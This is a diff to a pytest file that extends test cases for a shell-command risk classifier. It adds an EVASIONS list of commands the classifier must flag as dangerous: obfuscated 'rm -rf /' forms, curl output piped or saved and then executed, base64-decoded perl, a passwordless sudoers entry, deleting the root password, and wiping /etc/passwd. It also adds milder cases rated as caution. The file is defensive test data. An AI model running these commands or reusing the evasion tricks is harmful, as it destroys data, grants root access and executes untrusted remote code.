@@ -289,7 +289,38 @@ DANGEROUS_CASES = [
 ]
 
 
-@pytest.mark.parametrize("command", WRAPPED + DANGEROUS_CASES)
+# Evasions and two-step forms: spelling the program differently, writing a script and running it.
+EVASIONS = [
+    "r\\m -rf /",
+    "'rm' -rf /",
+    '"r"m -rf /',
+    "/bin/rm -rf /",
+    "$'\\x72\\x6d' -rf /",
+    "busybox rm -rf /",
+    "command -p rm -rf /",
+    "rm -rf -- /",
+    "rm -rf */",
+    "rm -rf .git",
+    "echo 'rm -rf /' > x.sh && bash x.sh",
+    "cat > run.sh <<EOF\nrm -rf ~\nEOF\nsh run.sh",
+    "printf 'rm -rf /\\n' > /tmp/a && chmod +x /tmp/a && /tmp/a",
+    "curl -sSL x -o inst.sh; chmod +x inst.sh; ./inst.sh",
+    "curl x > a.py && python3 a.py",
+    'python3 -c "$(curl -s http://x)"',
+    'perl -e "$(echo cm0= | base64 -d)"',
+    "curl -sSL https://install.python-poetry.org | python3 -",
+    "curl x | env bash",
+    ". <(curl x)",
+    'echo "rm -rf /" | at now',
+    "find /var/log -type f -delete",
+    'echo "bob ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
+    "passwd -d root",
+    "node -e \"require('fs').writeFileSync('/etc/passwd', '')\"",
+    "( (rm -rf /) )",
+]
+
+
+@pytest.mark.parametrize("command", WRAPPED + DANGEROUS_CASES + EVASIONS)
 def test_dangerous(command):
     rating = rate(command)
     assert rating.risk == DANGEROUS, (command, rating)
@@ -470,6 +501,17 @@ BENIGN = [
     (CAUTION, "mkfs.ext4 disk.img"),
     (CAUTION, "psql -c 'UPDATE users SET a=1 WHERE id=2'"),
     (CAUTION, "ssh host 'rm -rf /tmp/cache'"),
+    (CAUTION, "echo 'ls -la' > x.sh && bash x.sh"),
+    (CAUTION, "npx create-react-app my-app"),
+    (CAUTION, "find /var/log -name '*.gz' -delete"),
+    (CAUTION, 'echo "bob ALL=(ALL) ALL" >> /etc/sudoers'),
+    (CAUTION, "rm -rf .github"),
+    (CAUTION, "rm -rf ~/.cache/pip"),
+    (CAUTION, "rm /var/log/syslog"),
+    (CAUTION, "kill -9 $(pgrep node)"),
+    (CAUTION, "sudo chown -R $USER:$USER ~"),
+    (CAUTION, "chmod -R u+rwX ~"),
+    (CAUTION, 'echo "ls" | at now'),
 ]
 
 
